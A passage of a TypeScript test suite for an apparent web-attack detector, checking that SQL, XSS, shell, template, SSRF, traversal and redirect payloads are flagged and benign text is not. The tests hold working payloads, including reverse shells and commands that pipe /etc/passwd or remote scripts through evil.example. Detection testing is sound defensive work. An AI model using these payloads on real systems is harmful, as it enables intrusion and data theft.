  t.same(q('*)%00', 'user'), ['ldapi'])
  t.ok(q('http://127.000000000000000.1', 'image_url').includes('ssrf'), 'octets written with many zeros')
  for (const p of ['return true', 'a && b == c', '{a,b}', 'see page 3, javascript: the good parts', 'x / 2', 'read\\nonline=yes', "import('./module.js')"]) t.same(q(p), [], p)
})

t.test('JavaScript callbacks after a quote and a comma are code; JSON Schema keywords are no MongoDB operators', async (t) => {
  // found in the second fresh part's code and JSON documents after it was measured (docs/detection.md)
  t.same(q("app.get('/login', function (req, res) {\n  res.render('login');\n});", 'snippet'), [], 'an Express route')
  t.same(q("it('rejects a bad body', function (done) { request(app).post('/').expect(400, done) })", 'snippet'), [], 'a mocha test')
  t.same(q("'-function(){alert(1)}()-'"), ['xss'], 'a function whose body calls a sink is still a breakout')
  t.same(q("\";function x(){prompt`1`}x();//"), ['xss'])
  t.same(json({ document: { $schema: 'https://json-schema.org/draft/2020-12/schema', $comment: 'a note', $id: 'x', $ref: '#/$defs/a', $defs: { a: { type: 'string' } } } }), [], 'a JSON Schema')
  t.same(json({ username: { $ne: null }, password: { $ne: null } }), ['nosqli'], 'operators that change what a query matches still count')
})

// ---- fourth round (2026-12-02), tuned on the spent second fresh part: each family with what it leaves alone ----

const multipart = (field: string, value: string) =>
  raw({ headers: { 'content-type': 'multipart/form-data; boundary=XyZ' }, body: Buffer.from(`--XyZ\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n--XyZ--\r\n`) })

t.test('SQL: words that need parentheses, ordinals, quotations and addresses are no injection', async (t) => {
  for (const p of ['"And now, my child, you may kiss her."', "D'or 1st parfume", 'contains "--" in the 3rd and 4th position', '"Winston Smith" <winston.smith@recdep.minitrue> (Records Department)', '"Denn die Todten reiten schnell"-- ("For the dead travel fast.")', '"And when I raise my hand--so--you will throw"']) t.same(q(p), [], p)
  for (const p of ["' and now() = sysdate() --", "1'OR 1st=1st--", 'admin"--', "x' < 5 --"]) t.ok(q(p, 'id').includes('sqli'), p)
})

t.test('SQL: line comments end at the line, fuzzers\' prefixes, escaped quotes, operators cut by a comment', async (t) => {
  for (const p of [
    'union#foo*/*bar\nselect#foo\n1,2', "%0a' or 1337=(select 1337 from pg_sleep(120)) --", "\\n or 1337=(select 1337 from pg_sleep(120))", "0x0a\\' and 1337=(select 1337 from (select sleep(120))A) --",
    '0\\"XOR(if(now()=sysdate(),sleep(9),0))XOR\\"Z', "x'|email--", "id'not like id--", "user'collate nocase--", "z'or email notnull--", "'sounds like rowid--", "' and email not similar to id--",
    'SELECT CASE WHEN (1=1) THEN pg_sleep(25) ELSE pg_sleep(0) END--', 'IF 1=1 THEN dbms_lock.sleep(25);', ';sleep(10)--', 'union distinctrow select 1,2,3-- -', 'SELECT/*avoid-spaces*/password/**/FROM/**/Members',
    '` WHERE 1337=1337 AND (SELECT 1337 FROM (SELECT(SLEEP(10)))YYYY)-- 1337', 'union+distinctROW+select+1,2,3,4-- -', '/*!union*/+/*!select*/+1,2', "TrackingId=x'+OR+1=1-- OK", 'http://a.example/index.php?id=1 and 1*0 order by 1--',
  ]) t.ok(q(p, 'id').includes('sqli'), p)
  for (const p of ["it's not that bad--really", "don't like it -- said Ann", 'issue #5\nselect the best one', 'Tom+and+Jerry', "the 'x' is fine -- ok", 'order by 1 please']) t.same(q(p), [], p)
})

t.test('shell: batch IF and FOR, mail protocol commands after a line break, wrappers, folded spellings', async (t) => {
  for (const p of [
    'IF EXIST "temp.txt" ECHO found', 'IF /I "%var%" NEQ "0" ECHO inequality', 'if not (2 equ 2) echo hey', 'IF ERRORLEVEL 0 CMD', 'FOR /L %%G IN (1,1,5) DO echo %%G', 'for /f "tokens=*" %G in (\'dir /b\') do echo %G', '& FOR %_ IN (a,b,c) DO cmd',
    '\r\na001 EXAMINE INBOX', '\r\nMAIL FROM:<a@b.com>', '\r\nRCPT TO:<postmaster>', '\r\nQUIT', '\r\nRETR 123',
    'time sh -c whoami', 'strace whoami | sh', 'cpulimit -l 100 -f whoami', 'time; visudo', 'cat /[e]tc/[p]asswd', 'cat /et$()c/pa$()sswd',
  ]) t.ok(q(p).includes('rce'), JSON.stringify(p))
  t.ok(q('IF+EXIST+%22temp.txt%22+ECHO+found'.replace(/%22/g, '"'), 'q').includes('rce') || header('x-data', 'IF+EXIST+"temp.txt"+ECHO+found').includes('rce'), 'with + for its blanks')
  for (const p of ['if x == 1:', 'if (a == b) {', 'if a == b then return end', 'for x in range(10)', 'If you want, for example, more', '\nData protection matters to us', 'time will tell', 'nice cat pictures', 'the [a] list']) t.same(q(p), [], JSON.stringify(p))
})

t.test('XSS: sinks through call/apply or as callbacks, handlers as values, dangling markup, Markdown pages', async (t) => {
  for (const p of ['alert.call(null,1)', 'prompt.apply(null, [1])', 'alert?.(document?.cookie)', '[1].map(confirm)', '[1].find(alert)', 'Array.prototype.sort.call`${alert}1337`', "onload=function(){$.getScript('//x.example/2.js')}", 'onfocus=;write(cookie)', '<img src="//evil.example/?', '<link rel=icon href="//evil.example?', '‘-alert(1)-’', '"+onError=prompt(123)"+', 'javascript:\ufeffalert(1)', '<video onwebkitplaybacktargetavailabilitychanged=alert(1)>']) t.ok(q(p).includes('xss'), p)
  t.notOk(q("eval('1+1')").includes('xss'), 'code handed to eval without a sink is no script injection (it is rce)')
  for (const p of ["eval('alert(1)');", 'setTimeout`alert\\x2823\\x29`', '(alert)()', '"*prompt(9)*"', '[xss link](<javascript:alert(1)>)', 'href=”javascript:alert(1)//”>Click</a>', '<x @click=$event.view.alert(1)>click</x>', "{{$new.constructor('alert(1)')()}}", '{{_Vue.h.constructor`alert(1)`()}}']) t.ok(q(p).includes('xss'), p)
  for (const p of ['call me maybe', 'onload handlers run first', '<img src="/logo.png">', 'the map(fn) call', 'setTimeout(render, 10)', '<button @click="save">Save</button>', '{{ item.constructor.name }}']) t.same(q(p), [], p)
  // a documentation page's component scripts, escaped brackets and embeds
  t.same(multipart('readme', "---\npage: true\n---\n\n<script setup>\nimport TeamPage from './team/TeamPage.vue'\n</script>\n\n<TeamPage />"), [], 'Vue <script setup> importing a component')
  t.same(multipart('readme', "## Raw HTML\n\nText.\n\n<script setup>\n  const rawHtml = '<span style=\"color: red\">red</span>'\n</script>\n\n<div class=\"demo\">x</div>"), [], 'a component script declaring a string of markup')
  t.same(multipart('readme', '# \\<script setup> {#script-setup}\n\nIt is a compile-time syntactic sugar.'), [], 'an escaped bracket in a heading')
  t.same(multipart('readme', '### html\n\nExample output:\n\n<iframe src="html-formatter-example.html" width="100%" height="460px"></iframe>'), [], 'an embedded page')
  t.same(multipart('readme', '<script setup>\nalert(document.cookie)\n</script>'), ['xss'], 'a component script calling a sink is judged')
  t.same(multipart('readme', '## Demo\n\n<iframe src="javascript:alert(1)"></iframe>'), ['xss'], 'an embed of a script URL is not one')
})

t.test('templates: Nunjucks tags in Markdown pages are the site\'s, EL class lookups and prototype walks are probes', async (t) => {
  t.same(multipart('readme', "---\ntitle: Theme Switcher\n---\n\n{% include 'components/theme-switcher.html' %}"), [], 'an include in a page with front matter')
  t.same(multipart('readme', '## Examples\n\n{% recommended %}\n{% fixable %}'), [], 'shortcodes under a heading')
  t.ok(q("{% include 'x.html' %}").includes('ssti'), 'a tag in a short value is still a probe')
  for (const p of ['${class.getClassLoader()}', '{{this.constructor.constructor}}', '{{ this.__proto__ }}', "{{'/etc/passwd'|file_excerpt(1,30)}}", "#{root.process.mainModule.require('child_process')}"]) t.ok(q(p).includes('ssti'), p)
})

t.test('NoSQL: busy-wait loops, returns closing a condition; SSRF: handed schemes, unbracketed IPv6, escaped hosts, long hex', async (t) => {
  for (const p of ['1; return db.a.findOne(); var dummy=1', "') { return true; } var dum='a", 'return true; var dummy =\'!', "1; var d = new Date(); do { c = new Date(); } while(c - d < 10000); return true"]) t.ok(q(p, 'user').includes('nosqli'), p)
  for (const p of ['http://whatever.example/ssrf.php?url=sftp://evil.example:11111/', 'http://a.example/redirect.php?url=file:///etc/passwd', 'http://0000::1:80/', 'http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/', 'http://0x41414141A9FEA9FE/']) t.ok(q(p, 'url').includes('ssrf'), p)
  t.same(q('https://example.com/docs?page=file-formats', 'url'), [], 'a query naming no scheme')
})

t.test('documents: file URLs, documentation hosts and invalid addresses in a JSON document are its own', async (t) => {
  const tests = Array.from({ length: 14 }, (_, i) => ({ description: `case ${i}`, data: ['file:/etc/hosts', 'http://087.10.0.1/', 'http://999.999.999.999/', 'ldap://[2001:db8::7]/c=GB?objectClass?one'][i % 4], valid: i % 2 === 0 }))
  t.same(json([{ description: 'validation of URIs', schema: { format: 'uri' }, tests }]), [], 'a URI-format test suite')
  t.ok(q('file:///etc/passwd', 'url').includes('ssrf'), 'outside a document a file URL to a system file is still SSRF')
  t.ok(q('http://425.510.425.510/', 'url').includes('ssrf'), 'octets that wrap to the metadata address')
})

t.test('scanner: a script\'s source guessed by its name; splitting: a request line; traversal: a Java app\'s files', async (t) => {
  for (const path of ['/index.php.new', '/index.aspx_old2019', '/login.jsp~1', '/index.php.', '/index.php45', '/index.jspx.map', '/bower.json', '/app/etc/local.xml', '/sftp-config.json', '/App.csproj']) t.same(raw({ path }), ['scanner'], path)
  for (const path of ['/index.php', '/index.php5', '/index.aspx', '/page.jsp', '/index.php/users', '/default.asmx']) t.same(raw({ path }), [], path)
  for (const p of ['%0aPOST / HTTP/1.1', 'aaa%0aGET+/+HTTP/1.1']) t.ok(q(decodeURIComponent(p.replace(/\+/g, ' ')), 'lang').includes('crlf'), p)
  for (const p of ['../WEB-INF/web.xml', '../logs/access.log', '..2fapache2flogs2ferror.log']) t.ok(q(p, 'file').includes('path_traversal'), p)
  for (const p of ['/wamp/logs/apache_error.log', '/MySQL/my.cnf', '/.bash_profile']) t.ok(q(p, 'template').includes('path_traversal'), p)
  t.same(q('see ../docs/index.md for more', 'q'), [], 'a relative link in text')
})

// ---- fifth round (2026-12-02), tuned on the spent third fresh part: each family with what it leaves alone ----

t.test('JSON configurations: climbs to the project\'s own files, regex keys and package names are the document\'s', async (t) => {
  const tsconfig = { extends: '../../../../tsconfig.test.json', include: ['./**/*'], references: [{ path: '../../' }, { path: '../../../test-utils' }] }
  t.same(json(tsconfig), [], 'tsconfig: extends and references')
  t.same(json({ extends: '../../../tsconfig.typetest.json', include: ['./**/*'] }), [], 'tsconfig: a flat one extending another')
  t.same(json({ document: JSON.stringify(tsconfig) }), [], 'as a JSON text in a field')
  t.same(json({ dependencies: { '@jest/test-result': 'link:../../../packages/jest-test-result', 'jest-environment-node': 'file:../../../packages/jest-environment-node' }, jest: { rootDir: './' } }), [], 'a manifest\'s local dependencies')
  t.same(json({ jest: { transform: { '\\.mjs?$': '../../../packages/babel-jest' } } }), [], 'jest\'s transform')
  t.same(json({ jest: { moduleNameMapper: { '\\.(css|less)$': 'no-such-module' } } }), [], 'a file-name pattern as a key')
  t.same(json({ jest: { moduleFileExtensions: ['js'] }, dependencies: { 'discord.js': '11.5.1' } }), [], 'a package named like a file, its version no address')
  // what still counts there: climbing toward a system location, to a server's file under a field named for one
  t.same(json({ config: { path: '../../../../etc/passwd' } }), ['path_traversal'], 'nested: toward a system file')
  t.same(json({ config: { path: '../../config.yml' } }), ['path_traversal'], 'nested: to a server\'s file under `path`')
  t.same(json({ extends: '../../../../../windows/win.ini' }), ['path_traversal'], 'extends: toward a system file')
  t.same(json({ id: 7, path: '/../../../', tags: ['new'] }), ['path_traversal'], 'a flat body: climbing to anything')
  t.same(json({ id: 7, path: '../../../tmp/lol.png', tags: ['new'] }), ['path_traversal'])
  t.same(json({ 'image.url': 'http://127.0.0.1/' }), ['ssrf'], 'a field named for a URL with a dot in its name')
  t.same(q('11.5.1', 'webhook_url'), [], 'three numbers spelling a public address under a URL field: a version (forty-first round)')
  t.same(q('10.0.1', 'webhook_url'), ['ssrf'], 'a short internal address under a URL field')
})

t.test('code and Markdown: block parameters, $0, an object\'s eval, comment lines, fragments cut inside a fenced block', async (t) => {
  for (const p of ['Dir.glob(pattern) do |file|', 'routes.each do |route|', 'app = lambda { |env|', 'items.each { |a, *rest, &blk| a }', 'set :app_file, caller_files.first || $0']) t.notOk(shellInjection(p.toLowerCase()), p)
  for (const p of ['x |id|', 'a do|id', ';$CMD', 'x || $cmd', "'|id|'"]) t.ok(shellInjection(p.toLowerCase()), p)
  t.same(q("captured = block.binding.eval('@_out_buf')", 'snippet'), [], 'an object\'s eval method')
  t.ok(q("eval('ls')").includes('rce'), 'eval itself still counts')
  const ruby = "class Helpers\n  # Check if a block was defined, for example:\n  #   <script type=\"text/javascript\" src=\"/foo.js\"></script>\n  def content_for?(key)\n    blocks[key]\n  end\n\n  def engine\n    erb '<%= 1 + 1 %>'\n  end\nend"
  t.same(json({ snippet: ruby }), [], 'a program\'s comment lines and a template in its string literals')
  t.same(json({ snippet: ruby.replace('<%= 1 + 1 %>', "' + params[:x] + '<script>alert(1)</script>") }), ['xss'], 'markup outside its comments is judged')
  t.same(json({ body: '# Add back the files\necho "$FILES" | xargs git add\n```\n\nThen add this hook:\n\n```sh\ngit update-index -g\n```' }), [], 'a fragment that starts inside a fenced block')
  t.same(json({ body: '### Open source\n\nText of the page.\n\n<a class="button" href="https://tidelift.c' }), [], 'a Markdown page cut inside its last link')
  t.same(q('<img src="//evil.example/?'), ['xss'], 'dangling markup outside Markdown')
  t.ok(json({ body: '# Notes\n\nx; cat /etc/passwd | nc evil.example 80\n\n```sh\nls\n```' }).includes('rce'), 'what precedes a block\'s opening fence is judged')
})

t.test('redirects: another host naming the request\'s own elsewhere, invisible characters before a host', async (t) => {
  for (const p of ['https://shop.example.com.evil.example.net', 'https://shop.example.com;.evil.example.net', 'https://shop.example.comevil.example.net', 'https://evil.example.net/shop.example.com', 'https://evil.example.net?shop.example.com', 'https://evil.example.net#shop.example.com', 'https://sshop.example.com', '\u200bevil.example.net', '\u00adevil.example.net']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
  for (const p of ['https://shop.example.com/account', 'https://www.shop.example.com/cart', 'https://accounts.idp.example/authorize?client_id=1&redirect_uri=https://shop.example.com/cb', 'https://partner.example.org/welcome', '/account']) t.same(q(p, 'next'), [], p)
})

t.test('SSRF: hosts with characters IDNA drops, a zero address written out; templates: FreeMarker built-ins, blind division probes', async (t) => {
  for (const p of ['http://\u00adlocalhost/', 'http://\u200blocalhost/', 'http://\u180blocalhost/', 'http://\u2060localhost/', 'http://[0000:0000:0000:0000:0000:0000:0000:0000]/', 'http://[0:0:0:0:0:0:0:1]/']) t.ok(q(p, 'url').includes('ssrf'), JSON.stringify(p))
  t.same(q('https://caf\u00e9.example.org/', 'url'), [], 'a public host with an accent')
  for (const p of ["${1/((1.0==1.0)?string('1','0')?eval)}", "{{1 / ('2' + '3' == 5)}}", "{{1 / (strlen('2') == 1)}}", "${emit(eval(__import__('base64').b64decode('eA==')))}", "${__import__('os').popen('id').read()}"]) t.ok(q(p).includes('ssti'), p)
  for (const p of ['${price}', '{{ total / 2 }}', 'Hello ${name}, 1 / 2 done', '{{ a / (b + c) }}']) t.same(q(p), [], p)
})

t.test('PHP code injection: a file built-in as a whole statement or after a breakout, the exit(md5()) marker', async (t) => {
  for (const p of ['readfile("/etc/passwd");', 'echo file_exists("index.html");', 'chmod("index.html",0777);', 'print_r(glob("*.txt"));', "';exit(md5('x1'));//", '".exit(md5(\'x1\'));#', 'echo copy("/etc/passwd","/tmp/passwd");']) t.ok(q(p).includes('rce'), p)
  for (const p of ['Use readfile() to send a file', 'if (file_exists("a.txt")) { echo "yes"; }', 'the copy("x") call fails', "exit(0)", 'php > readfile is slow']) t.notOk(q(p).includes('rce'), p)
})

t.test('SQL: a union whose select sits in several parentheses', async (t) => {
  t.ok(sqlInjection("1001 union((select userid, ccnumber, '3', '4' from credit_cards))"), 'union((select')
  t.notOk(sqlInjection('the european union ((selected members)) met'), 'a union of words')
})

// ---- sixth round (2026-12-02), tuned on the spent parts: each family with what it leaves alone ----

t.test('SQL: an expression spliced between two quotes (balanced breakouts with operators only)', async (t) => {
  for (const p of ["aa'^0!='1", "abc' = !!'0", 'asd"or!(1)="1', "aa'!='1", "1' -1 or '1", "aa'in (0)#(", " aa' <<3 or'1", "2' / 0x62 or 0 like binary '0", "' is 99999 = '", "aa' / current_date != '1", "aa'%1+0='0", "4' MOD 2 like '0"]) t.ok(sqlInjection(p.toLowerCase()), p)
  for (const p of ["5' - 6'", `5'10" - 6'2"`, "Tom's + Jerry's", "rock 'n' roll", "it's 5 > 3, isn't it", "O'Neil's = best", "Chris' and Anna's wedding", "the 'x' = y rule", "a' + b + 'c", "don't = won't"]) t.notOk(sqlInjection(p.toLowerCase()), p)
  t.same(q('aa%27%5E0%21%3D%271'), ['sqli'], 'percent-encoded twice')
  t.same(q("Tom's + Jerry's"), [], 'names with apostrophes in a search')
})

t.test('SQL: a leading operand that is an arithmetic expression, a value still spelt with + for its blanks', async (t) => {
  for (const p of ['(hope) and 8=3', '(1)*hope and 8=3', '((1))*(hope) and 8=3', '1+pi() and (3=pi())--']) t.ok(sqlInjection(p), p)
  for (const p of ['(see above) and more', '(a) or (b)', '(2+2) and then some']) t.notOk(sqlInjection(p), p)
  t.ok(sqlInjection('1 || (select user from users where user_id = 1) = \'admin\''), 'a concatenation is no leading arithmetic: || still joins the comparison')
  t.same(q('HOPE+AND+8%3D3'), ['sqli'], 'a second form encoding: + for blanks')
  t.same(q('Tom+and+Jerry'), [], 'a plus-spelt phrase with no SQL after the word')
})

t.test('shell: quote-split words, glob-spelt system paths, recon programs in cmd variable marks, PHP file built-ins', async (t) => {
  for (const p of ["c'a't /etc/passwd", 'c"a"t /etc/passwd', '/???/c?t /etc/passwd', '/???/c?t /?tc/?as?wd', ';/???/c?t /?tc/?as?wd', 'cat /[e//]tc/[p//]asswd', '/bin/cat /etc/passwd', '%whoami%', '!whoami!', '%!whoami!%', '!%whoami', 'READFILE("/etc/passwd")']) t.ok(q(p).includes('rce'), p)
  for (const p of ["rock'n'roll /etc", "O'Neil's", '/*/*', '%postname%', '%id%', '!important', 'https://a.example/b?c=/d', '/search?q=a b', '/usr/*/lib x', 'readfile is slow', "it's 'cat' time"]) t.notOk(q(p).includes('rce'), p)
  t.ok(shellInjection(";c'a't /etc/passwd"), 'after a separator')
  t.ok(bareCommand('/bin/cat /etc/passwd'), 'a reader by its path')
  t.notOk(bareCommand('/bin/cat notes.txt'), 'a reader by its path, not at the system')
})

t.test('SSRF: a file URL with dot segments or globs; redirects: blanks or a port that is no port in the authority, a userinfo after a separator', async (t) => {
  for (const p of ['file:///e??/pa??wd', 'file:////./etc/./passwd', 'file:///./etc/passwd']) t.ok(q(p, 'url').includes('ssrf'), p)
  for (const p of ['file:///home/ann/notes.txt', 'file:///./docs/x?.txt', 'file:///tmp/*.log']) t.same(q(p, 'url'), [], p)
  for (const p of ['https://shop.example.com &@evil.example.net# @evil.example.net', 'https://evil.example.net:443.shop.example.com', 'www.whitelisteddomain.tld;@localdomain.pw']) t.ok(q(p, 'next').includes('open_redirect'), p)
  for (const p of ['https://shop.example.com:8443/cart', 'https://[2001:db8::1]:443/x', 'https://partner.example.org/a b', 'https://evil.example.net']) t.notOk(q(p, 'next').includes('open_redirect'), p)
})

t.test('shell: an unset variable glued to a word expands to nothing', async (t) => {
  for (const p of ['cat$u /etc$u/passwd', ';cat$u+/etc$u/passwd', ';c$u /etc/passwd']) t.ok(q(p).includes('rce'), p)
  for (const p of ['US$5 for a cat', 'price$usd / unit', 'total$ /etc', 'a+b;c$u+d']) t.notOk(q(p).includes('rce'), p)
  t.ok(shellInjection(';cat${ifs}/etc/passwd'), 'IFS still reads as a blank')
})

// ---- seventh round (2026-12-02), tuned on the fourth fresh part: each family with what it leaves alone ----

t.test('SQL: backticks that pair into Markdown code spans are a document\'s markup, not identifier quotes', async (t) => {
  for (const p of ['`<percentage>`', '`left` and `right`', '`<hr>` in `<select>`', '`x` or `y`', '`a` = `b`']) {
    t.notOk(sqlInjection(p), p)
    t.same(json({ description: p }), [], `${p} in a JSON document's field`)
  }
  for (const p of ['id` or 1=1-- -', "x` or 1=1 or `y", '`1 or 1=1`', "` or 1=1-- -", "`x` or `y` union select 1,2--"]) t.ok(sqlInjection(p), p)
})

t.test('SSRF: wildcard-DNS names of many labels, a name ending in a private address, a NUL ending the host', async (t) => {
  for (const [k, p] of [['image_url', 'foo.bar.10.0.0.1.xip.io'], ['feed', 'customer2.app.10.0.0.1.nip.io'], ['url', 'http://shop.example.com.127.0.0.1'], ['url', 'https://cdn.example.com.10.0.0.5/x'], ['url', 'http://127.0.0.1%00shop.example.com']] as const) t.ok(q(p, k).includes('ssrf'), p)
  for (const [k, p] of [['url', 'https://a.b.c.d.e.f.g.h.example.com/x'], ['url', 'http://release.1.2.3.4'], ['url', 'http://v1.2.3.4/'], ['url', 'https://shop.example.com.8.8.8.8/'], ['feed', 'a.b.c.d.e.f.g.h.example.org']] as const) t.notOk(q(p, k).includes('ssrf'), p)
})

t.test('SQL: a number compared with itself as a condition (a probe\'s switch: sqlmap\'s templates without their boundaries)', async (t) => {
  for (const p of ['ELT(4821=4821,7363)', 'AND MAKE_SET(4821=4821,7363)', '(4821=4821)*7363', 'IIF(4821=4821,1,1/0)', ';IIF(4821=4821,1,1/0)', '(CASE WHEN 4821=4821 THEN 1 ELSE NULL END)', 'RLIKE (SELECT (CASE WHEN (4821=4821) THEN 1 ELSE 0x28 END))', 'SELECT ELT(4821=4821,1)']) {
    t.ok(sqlInjection(p.toLowerCase()), p)
    t.same(q(p), ['sqli'], `${p} as a query value`)
  }
  for (const p of ['the ratio (2=2) holds', 'see note (1=1).', '(12=123)', 'when 3=4 then', 'x == x', 'f(a=a)']) t.same(q(p), [], p)
})

t.test('SQL: a delay call negated after a logic word, the simple case form comparing a number with itself', async (t) => {
  for (const p of ['AND !SLEEP(5)', 'RLIKE !SLEEP(5)', '(4821=4821 AND !SLEEP(5))', "SELECT 'qkvpq'||(CASE 4821 WHEN 4821 THEN 1 ELSE 0 END)||'qzjxq' FROM RDB$DATABASE"]) t.same(q(p), ['sqli'], p)
  for (const p of ['time.sleep(5)', 'wow !sleep(5) is fun', 'in case 3 when 4 then']) t.same(q(p), [], p)
})

t.test('shell: a brace list where a command starts, a folded command line with + for its blanks', async (t) => {
  for (const p of ['{uname,-a}', '$({cat,/etc/passwd})', ';{cat,/etc/passwd}', 'cat$u+/etc$u/passwd$u', '/?in/cat+/et?/passw?', '/???/??t+/???/??ss??']) t.ok(q(p).includes('rce'), p)
  for (const p of ['{a,b}', '{cat,dog}', 'pick {red,green}', 'size+10/20', 'c++/java', '/search?q=a+b', '/a?b+c/d', '{"a":1,"b":2}']) t.notOk(q(p).includes('rce'), p)
})

t.test('shell and code: no-op programs, three dashes, JavaScript interpolation; PHP complex syntax with a call inside', async (t) => {
  for (const p of ["keyof NonNullable<LightningCSSOptions['targets']> | false | undefined", 'At Gateshead; in ---shire.', 'debug?.(`env files loaded in ${getTime()}`)', 'x || true', "a' | false"]) t.same(q(p), [], p)
  for (const p of ['${@print(md5(1))}', ';${@print(md5("whoami"))}', '{${system(id)}}', ';ls --all', "a' | id"]) t.ok(q(p).includes('rce'), p)
})

const path = (p: string) => detector.detect({ ...base, path: p })
t.test('scanner: a configuration written in XML, a probe for a configuration file behind a climb that is no traversal', async (t) => {
  for (const p of ['/config.xml', '/HFM/Security/conf/HfmConfig.xml', '/admin-authz.xml', '/soapConfig.xml', '/WEB-INF./web.xml', '/weblogic.xml', '/serverindex.xml', '/manager/manager.xml', '/cgi-bin/%2e%2e/abyss.conf', '/pls/admin_/help/..%255cplsql.conf']) t.ok(path(p).includes('scanner'), p)
  for (const p of ['/sitemap.xml', '/feed.xml', '/rss.xml', '/atom.xml', '/crossdomain.xml', '/browserconfig.xml', '/api/orders.xml', '/docs/../index.html']) t.notOk(path(p).includes('scanner'), p)
  t.same(path('/../../../../etc/passwd'), ['path_traversal'], 'a climb to a system file stays traversal')
})

t.test('Markdown: a custom element named like a dangerous tag, a component script importing a list over several lines', async (t) => {
  const page = '## The Origins\n\nVite took a different approach.\n\n<script setup>\nimport bundlerSvg from \'../images/bundler.svg?raw\'\n</script>\n<svg-image :svg="bundlerSvg" />\n\n_In a bundle-based dev server._\n'
  t.same(json({ body: page }), [], 'a Vue custom element <svg-image>')
  const team = '---\nlayout: page\ntitle: Meet the Team\n---\n\n<script setup>\nimport {\n  VPTeamPage,\n  VPTeamMembers\n} from \'@voidzero-dev/vitepress-theme\'\n</script>\n\n<VPTeamPage>\n  <VPTeamMembers :members="core" />\n</VPTeamPage>\n'
  t.same(json({ body: team }), [], 'a multi-line import in a component script')
  t.ok(q('<svg onload=alert(1)>').includes('xss'), 'the svg element itself')
  t.ok(q('<svg/onload=alert(1)>').includes('xss'), 'and with a slash')
  t.ok(json({ body: '## Title\n\n<script setup>\nimport {\n  a\n} from \'x\'\nalert(document.cookie)\n</script>\n' }).includes('xss'), 'a sink in a component script still counts')
})

t.test('NoSQL: a string literal of code closed before `&& this.` is no breakout', async (t) => {
  t.same(q("(this.environment.mode === 'build' && this.environment.config.build.sourcemap)"), [], 'a literal opened and closed in the value')
  for (const p of ["admin' && this.password.match(/.*/)//", "' && this.password.match(/^a/)%00", "x\" && this.a == \"b"]) t.ok(q(p).includes('nosqli'), p)
})

t.test('traversal: a climb whose slashes lost their percent sign', async (t) => {
  for (const p of ['..2fetc2fpasswd', '..2f..2fetc2fpasswd', '..5c..5c..5cwindows5cwin.ini']) t.ok(q(p).includes('path_traversal'), p)
  for (const p of ['..2fconfig', 'a2f5c..2f', '0x2f..5cab']) t.notOk(q(p).includes('path_traversal'), p)
})

// ---- eighth round (2026-12-02), tuned on the fifth fresh part: each kind with what it leaves alone ----
t.test('scanner: an archive named for a backup in any folder, not a release or a download', async (t) => {
  for (const p of ['/admin99/backup.zip', '/databackup/temp.zip', '/include/eweb/www.rar', '/dede/plus/paycenter/alipay/database.zip', '/xyadmin/wwwroot.zip', '/members/backupdata.rar', '/programs/1.zip', '/china/db/0.rar', '/old/site.tar.gz', '/a/htdocs.7z']) t.ok(path(p).includes('scanner'), p)
  for (const p of ['/downloads/release.zip', '/docs/html.zip', '/datasets/data.zip', '/archive/refs/tags/2023.zip', '/releases/1.zip', '/downloads/source.zip', '/assets/webfonts.zip', '/files/backup-guide.pdf', '/api/backup', '/static/app.1.js']) t.notOk(path(p).includes('scanner'), p)
})

t.test('shell: a whole program sent as data is code; an injection, a reverse shell or a download run in it is not', async (t) => {
  const plugin = '# Changes directory to the last working directory\nlwd() {\n  local cache_file="$ZSH_CACHE_DIR/last-working-dir"\n  [[ -r "$cache_file" ]] && cd "$(<"$cache_file")"\n}\n\nif lwd 2>/dev/null; then\n  ZSH_LAST_WORKING_DIRECTORY=1\nfi\n'
  const slice = '  # Save beginning space\n  local WHITESPACE=""\n  if [ "${LBUFFER:0:1}" = " " ]; then\n    WHITESPACE=" "\n  fi\n'
  const nested = 'function fzf_setup() {\n  (( ${+commands[fzf]} )) || return 1\n  local v=${${(z)$(fzf --version)}[1]}\n  echo $v | grep -q 0.48\n}\n'
  for (const v of [plugin, slice, nested]) {
    t.same(q(v), [], v.slice(0, 40))
    t.same(json({ snippet: v }), [], `JSON: ${v.slice(0, 40)}`)
    t.same(multipart('file', v), [], `multipart: ${v.slice(0, 40)}`)
  }
  t.ok(q(`${plugin}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`).includes('rce'), 'a reverse shell inside a program')
  t.ok(q(`${plugin}curl -s http://evil.example/x | sh\n`).includes('rce'), 'a download run inside a program')
  t.ok(q(`${plugin}rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 >/tmp/p\n`).includes('rce'), 'a fifo reverse shell inside a program')
  t.ok(q('\nid; uname -a\n# x\nexport A=1\nlocal b=2\n').includes('rce'), 'a value starting with a line break is an injection')
  t.ok(q('# setup\nexport PATH=/usr/bin\nuname -a; id').includes('rce'), 'comments and declarations alone are no program: dressing around an injected line')
  t.same(json({ snippet: 'alias ll=\'ls -l\'\nalias la=\'ls -a\'\nalias g=git' }), [], 'an alias list stays unflagged (nothing in it runs a separator)')
  t.ok(q('x; cat /etc/passwd\n# comment\nexport A=1\n').includes('rce'), 'no structure line but one: a separator then a program')
  t.ok(q('a && id\nb').includes('rce'), 'two lines of injected commands')
  t.ok(q('${LS_COLORS:10:1}').includes('rce') || q(';${PATH:0:1}cat${IFS}/etc/passwd').includes('rce'), 'a variable slice outside a program still counts')
  t.ok(q('## Heading\n\n# another\n\nx; cat /etc/passwd').includes('rce'), 'Markdown headings alone make no program')
})

t.test('SQL: a whole program (a schema, a procedure) is code unless it probes', async (t) => {
  const schema = 'CREATE TABLE country (\n  country_id SMALLINT UNSIGNED NOT NULL AUTO_INCREMENT,\n  country VARCHAR(50) NOT NULL,\n  PRIMARY KEY (country_id)\n);\nDROP VIEW IF EXISTS v;\n'
  const proc = "IF EXISTS (SELECT * FROM DBO.SYSOBJECTS WHERE ID = OBJECT_ID(N'dbo.x'))\n    DROP PROCEDURE dbo.x\nGO\nCREATE Procedure x AS SELECT 1;\n"
  const trigger = "CREATE TRIGGER t_ai AFTER INSERT ON language\n BEGIN\n  UPDATE language SET last_update = DATETIME('NOW') WHERE rowid = new.rowid;\n END\n;\n"
  for (const v of [schema, proc, trigger]) {
    t.same(q(v), [], v.slice(0, 40))
    t.same(json({ snippet: v }), [], `JSON: ${v.slice(0, 40)}`)
  }
  t.ok(q(`${schema}SELECT a FROM t UNION SELECT password FROM users;\n`).includes('sqli'), 'a UNION SELECT in a program')
